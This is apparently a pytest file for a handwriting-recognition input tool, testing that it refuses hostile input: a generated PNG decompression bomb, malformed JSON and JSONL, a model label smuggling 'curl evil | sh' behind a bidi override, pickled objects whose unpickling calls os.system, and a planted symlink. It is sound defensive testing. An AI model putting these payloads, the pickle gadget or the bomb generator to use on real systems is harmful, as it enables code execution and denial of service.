"""Hostile and broken input: one bad file costs only itself, bundles are data, settings are never lost."""

import json
import os
import struct
import subprocess
import sys
import tracemalloc
import zlib
from pathlib import Path

import numpy as np
import pytest
import torch
from PIL import Image

from conftest import glyph_image, ink_shi
from hwime.cli import main as cli_main
from hwime.raster import RasterError, RasterSpec, find_ink, load_image, prepare_image
from hwime.recognizer import ModelError, Recognizer
from hwime.settings import Settings, load_settings, save_settings

ROOT = Path(__file__).resolve().parents[1]


def _png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def bomb_png(path: Path, side: int = 20000) -> Path:
    """A 1-bit side x side PNG of a few kilobytes: it would take gigabytes once decoded to 8-bit gray."""
    row = b"\x00" + b"\xff" * (side // 8)
    comp = zlib.compressobj(9)
    body = b"".join(comp.compress(row) for _ in range(side)) + comp.flush()
    ihdr = struct.pack(">IIBBBBB", side, side, 1, 0, 0, 0, 0)
    path.write_bytes(b"\x89PNG\r\n\x1a\n" + _png_chunk(b"IHDR", ihdr) + _png_chunk(b"IDAT", body) + _png_chunk(b"IEND", b""))
    return path


def run_cli(*args: str) -> subprocess.CompletedProcess:
    env = {**os.environ, "PYTHONIOENCODING": "utf-8"}
    return subprocess.run([sys.executable, "-m", "hwime", *args], capture_output=True, timeout=300, env=env, cwd=ROOT)


def test_one_bad_input_costs_only_itself(tiny_bundle, tmp_path):
    d = tmp_path / "in"
    d.mkdir()
    Image.fromarray(glyph_image()).save(d / "good.png")
    bomb_png(d / "bomb.png")
    (d / "nested.json").write_text("[" * 100_000)
    lines = [json.dumps({"char": "十", **ink_shi().to_json()}).encode()] * 1000
    lines[899] = lines[899].replace(b'"strokes"', b'"str\xffokes"')
    lines[949] = b'{"char": "\xe5\x8d\x81", "strokes": [[[1' + b"0" * 309 + b', 1], [2, 3]]]}'  # beyond any float
    lines[959] = b'{"strokes": [[[1' + b"0" * 5000 + b', 1], [2, 3]]]}'  # beyond Python's digits for an int
    (d / "many.jsonl").write_bytes(b"\n".join(lines) + b"\n")
    os.mkfifo(d / "pipe.png")
    odd = os.fsdecode(b"caf\xe9.json")  # a Latin-1 file name: not UTF-8
    ink_shi().save(d / odd)
    Image.new("L", (80, 60), 255).save(d / "blank.png")
    r = run_cli("recognize", "--model", str(tiny_bundle), "--json", "--top", "3", str(d))
    out = [json.loads(line) for line in r.stdout.decode("utf-8").splitlines()]
    err = r.stderr.decode("utf-8")
    assert r.returncode == 1
    by_input = {o["input"].rsplit("/", 1)[-1]: o for o in out}
    assert len(by_input["good.png"]["candidates"]) == 3
    assert by_input["blank.png"]["candidates"] == []  # a blank page is empty, not an error
    assert by_input["caf\\xe9.json"]["candidates"]  # the name is printable, the ink recognized
    jsonl = [o for o in out if "many.jsonl:" in o["input"]]
    assert len(jsonl) == 997 and all(o["label"] == "十" for o in jsonl)
    assert "many.jsonl:950" in err and "±1e+06" in err and "many.jsonl:960" in err
    assert not any(o["input"].endswith(":900") for o in jsonl) and any(o["input"].endswith(":1000") for o in jsonl)
    assert "many.jsonl:900" in err and "UTF-8" in err
    assert "bomb.png" in err and "too large" in err
    assert "nested.json" in err and "nested too deeply" in err
    assert "pipe.png" in err and "not a regular file" in err
    assert "Traceback" not in err


@pytest.mark.parametrize("top", ["-1", "0", "12"])
def test_top_outside_the_label_range_is_a_usage_error(tiny_bundle, tmp_path, top, capsys):
    Image.fromarray(glyph_image()).save(tmp_path / "a.png")
    assert cli_main(["recognize", "--model", str(tiny_bundle), "--top", top, str(tmp_path / "a.png")]) == 2
    assert "--top must be from 1 to 11" in capsys.readouterr().err


def test_blank_image_reads_as_empty_in_text_mode(tiny_bundle, tmp_path, capsys):
    Image.new("L", (50, 50), 255).save(tmp_path / "blank.png")
    assert cli_main(["recognize", "--model", str(tiny_bundle), str(tmp_path / "blank.png")]) == 0
    assert capsys.readouterr().out.strip().endswith("(empty)")


def test_a_thin_strip_costs_memory_in_proportion_to_the_output():
    strip = np.full((1, 60000), 255, np.uint8)
    strip[0, 100:59000] = 0
    tracemalloc.start()
    out = prepare_image(strip, RasterSpec())
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    assert out.shape == (64, 64)
    assert peak < 20_000_000  # squaring first took 3.6 GB


def test_huge_images_are_refused_before_decoding(tmp_path):
    with pytest.raises(RasterError, match="too large"):
        load_image(bomb_png(tmp_path / "bomb.png"))


def test_find_ink_crops_margins_inverts_dark_paper_and_ignores_specks():
    page = np.full((64, 64), 255, np.uint8)
    page[20:40, 25:35] = 0  # the glyph, small in a wide frame
    page[2, 60] = 0  # dust in a corner
    assert find_ink(page).shape == (20, 10)
    assert find_ink(255 - page).shape == (20, 10)  # white ink on black paper
    assert (find_ink(255 - page) == 0).all()  # the white ink comes back dark
    tight = glyph_image()  # an HWDB-like crop already touching its ink
    assert find_ink(tight).shape[0] >= tight.shape[0] - 10
    blank = np.full((30, 30), 255, np.uint8)
    assert find_ink(blank).shape == (30, 30)


def test_a_glyph_in_a_wide_frame_reads_like_the_tight_crop(tiny_bundle):
    rec = Recognizer.load(tiny_bundle, "cpu")
    tight = glyph_image((40, 40))
    framed = np.full((200, 200), 255, np.uint8)
    framed[120:160, 30:70] = tight
    assert np.array_equal(prepare_image(framed, rec.spec), prepare_image(tight, rec.spec))
    a, b = rec.recognize_images([tight, 255 - framed], top=3)
    assert [c.char for c in a] == [c.char for c in b]


# --- bundles are data --------------------------------------------------------------------------------------------

def _bundle(tiny_bundle: Path, tmp_path: Path, name: str, **changes) -> Path:
    b = torch.load(tiny_bundle, weights_only=True)
    b.update(changes)
    torch.save(b, tmp_path / name)
    return tmp_path / name


@pytest.mark.parametrize("labels, message", [
    (["中\u202e; curl evil | sh\n"] + list("口中一二三人大小日月"), "label 0"),
    (list("十口中一二三人大小日") + ["\n"], "label 10"),
    (list("十十中一二三人大小日月"), "appears twice"),
])
def test_labels_must_be_single_printable_characters(tiny_bundle, tmp_path, labels, message):
    with pytest.raises(ModelError, match=message):
        Recognizer.load(_bundle(tiny_bundle, tmp_path, "labels.pt", labels=labels), "cpu")


@pytest.mark.parametrize("raster", [{"size": 100000}, {"size": 64, "threshold": 999}, {"std": 0}, "size=64",
                                    {"size": "64"}, {"mean": float("nan")}])
def test_the_raster_spec_is_range_checked(tiny_bundle, tmp_path, raster):
    path = _bundle(tiny_bundle, tmp_path, "raster.pt", raster=raster)
    with pytest.raises(ModelError, match="raster"):
        Recognizer.load(path, "cpu")
    assert cli_main(["recognize", "--model", str(path), str(tmp_path)]) == 2  # a clean refusal, exit 2


@pytest.mark.parametrize("values", [{"line_lm_weight": float("nan")}, {"line_lm_weight": [1, 2]},
                                    {"line_bonus": "1.0"}, {"line_mix": 5}, {"line_bonus": float("inf")},
                                    {"line_start_weight": -1}, {"line_start_weight": float("nan")},
                                    {"line_name_share": 1.0}, {"line_name_share": -0.1}])
def test_the_line_decoders_values_are_checked_at_load(tiny_bundle, tmp_path, values):
    path = _bundle(tiny_bundle, tmp_path, "line.pt", **values)
    key = next(iter(values))
    with pytest.raises(ModelError, match=f"{key} must be a number"):
        Recognizer.load(path, "cpu")


def test_a_bundle_whose_parts_disagree_is_refused_at_load_in_one_line(tiny_v3, tmp_path):
    other_arch = _bundle(tiny_v3, tmp_path, "arch.pt", arch="crnn")
    with pytest.raises(ModelError, match="do not fit arch 'crnn'"):
        Recognizer.load(other_arch, "cpu")
    b = torch.load(tiny_v3, weights_only=True)
    for size in (8, 512):
        wrong = _bundle(tiny_v3, tmp_path, f"size{size}.pt", raster={**b["raster"], "size": size, "width": 2 * size})
        with pytest.raises(ModelError, match=f"raster size {size} does not fit"):
            Recognizer.load(wrong, "cpu")
        assert cli_main(["recognize", "--model", str(wrong), str(tmp_path)]) == 2


def test_nan_weights_are_refused(tiny_bundle, tmp_path):
    b = torch.load(tiny_bundle, weights_only=True)
    key = next(k for k, v in b["state_dict"].items() if v.is_floating_point())
    b["state_dict"][key] = torch.full_like(b["state_dict"][key], float("nan"))
    torch.save(b, tmp_path / "nan.pt")
    with pytest.raises(ModelError, match="NaN"):
        Recognizer.load(tmp_path / "nan.pt", "cpu")


class _RunsCode:
    def __reduce__(self):
        return (os.system, (f"touch {_RunsCode.marker}",))


def test_a_complete_bundle_whose_unpickling_would_run_code_is_refused_and_runs_nothing(tiny_bundle, tmp_path):
    _RunsCode.marker = tmp_path / "ran"
    b = torch.load(tiny_bundle, weights_only=True)
    b["metrics"] = _RunsCode()  # every required key is there: only weights_only stands between it and the shell
    torch.save(b, tmp_path / "evil.pt")
    with pytest.raises(ModelError) as info:
        Recognizer.load(tmp_path / "evil.pt", "cpu")
    message = str(info.value)
    assert "evil.pt" in message and "weights_only" not in message and "\n" not in message
    assert not _RunsCode.marker.exists()


# --- settings are never lost --------------------------------------------------------------------------------------

def test_one_bad_recent_entry_keeps_the_others(settings_path):
    settings_path.parent.mkdir(parents=True)
    settings_path.write_text(json.dumps({"recent": ["中", 5, "国", None], "pen_width": 9}), encoding="utf-8")
    s, warnings = load_settings(settings_path)
    assert s.recent == ["中", "国"] and s.pen_width == 9 and warnings


@pytest.mark.skipif(os.geteuid() == 0, reason="root ignores file permissions")
def test_read_only_folder_with_invalid_settings_starts_with_defaults(settings_path):
    settings_path.parent.mkdir(parents=True)
    settings_path.write_text("{not json", encoding="utf-8")
    settings_path.parent.chmod(0o555)
    try:
        s, warnings = load_settings(settings_path)
        assert s == Settings() and "not valid JSON" in warnings[0] and "left it in place" in warnings[0]
        assert save_settings(s, settings_path) is False  # the unreadable file is not overwritten
        assert settings_path.read_text(encoding="utf-8") == "{not json"
    finally:
        settings_path.parent.chmod(0o755)


def test_invalid_settings_that_cannot_be_moved_are_never_overwritten(settings_path, monkeypatch):
    settings_path.parent.mkdir(parents=True)
    settings_path.write_text("{not json", encoding="utf-8")

    def refuse(src, dst):
        raise PermissionError(13, "Read-only file system")

    monkeypatch.setattr(os, "replace", refuse)
    s, warnings = load_settings(settings_path)
    monkeypatch.undo()
    assert s == Settings() and "left it in place" in warnings[0]
    assert save_settings(s, settings_path) is False
    assert settings_path.read_text(encoding="utf-8") == "{not json"


def test_unreadable_settings_are_not_overwritten_on_exit(settings_path):
    settings_path.mkdir(parents=True)  # a folder where the file should be: reading fails with an OSError
    s, warnings = load_settings(settings_path)
    assert "Could not read settings" in warnings[0]
    assert save_settings(s, settings_path) is False and settings_path.is_dir()


def test_save_does_not_follow_a_planted_temporary_symlink(settings_path, tmp_path):
    settings_path.parent.mkdir(parents=True)
    victim = tmp_path / "victim.txt"
    victim.write_text("precious", encoding="utf-8")
    (settings_path.parent / "settings.tmp").symlink_to(victim)
    assert save_settings(Settings(pen_width=7), settings_path)
    assert victim.read_text(encoding="utf-8") == "precious"
    assert load_settings(settings_path)[0].pen_width == 7
    assert sorted(p.name for p in settings_path.parent.iterdir()) == ["settings.json", "settings.tmp"]  # nothing left over


@pytest.mark.parametrize("bad, message", [
    (np.zeros((40, 80), bool), "got a bool array"), (np.full((40, 80), 0.5), "got a float64 array"),
    (np.full((40, 80), np.nan, np.float32), "got a float32 array"), ([[255, 0], [0, 255]], "got list"),
    (None, "got NoneType"), (np.full((40, 80), -3, np.int8), "outside 0..255"), (np.zeros((4, 4, 3), np.uint8), "shape"),
])
def test_the_recognizer_takes_uint8_gray_images_and_says_what_it_expects_of_others(tiny_bundle, tiny_v3, bad, message):
    from hwime.raster import RasterError

    for rec, read in ((Recognizer.load(tiny_bundle, "cpu"), lambda r, im: r.recognize_images([im])),
                      (Recognizer.load(tiny_v3, "cpu"), lambda r, im: r.recognize_line(im))):
        with pytest.raises(RasterError, match=message) as err:
            read(rec, bad)
        assert "2-D numpy uint8 array, 255 = paper" in str(err.value)
    ok = np.full((40, 80), 255, np.int64)
    ok[10:30, 38:42] = 0  # integers within 0..255 convert safely
    assert Recognizer.load(tiny_bundle, "cpu").recognize_images([ok])[0]


def test_every_model_file_the_trainers_read_goes_through_the_checked_reader(tiny_bundle, tmp_path):
    import contextlib
    import io

    from hwime.training.__main__ import main as training_main

    class Sneaky:
        def __reduce__(self):
            return (print, ("this must never run",))

    pickled = tmp_path / "sneaky.pt"
    torch.save({"model": Sneaky()}, pickled)  # a zip torch wrote, with a pickle inside that would run code
    text = tmp_path / "text.pt"
    text.write_text("hello, I am not a model\n")
    folder = tmp_path / "folder.pt"
    folder.mkdir()
    foreign = tmp_path / "foreign.pt"
    torch.save({"something": torch.zeros(2)}, foreign)
    for path, message in ((pickled, "refused: the file holds objects other than tensors"),
                          (text, "not a checkpoint or model bundle"), (folder, "a folder"),
                          (foreign, "no weights in it")):
        for argv in (["evaluate-lines", str(path)], ["export", str(path), "--out", str(tmp_path / "o.pt")]):
            err = io.StringIO()
            with contextlib.redirect_stderr(err):
                assert training_main(argv) == 2
            assert message in err.getvalue() and "weights_only" not in err.getvalue(), (argv, err.getvalue())
            assert err.getvalue().count("\n") == 1
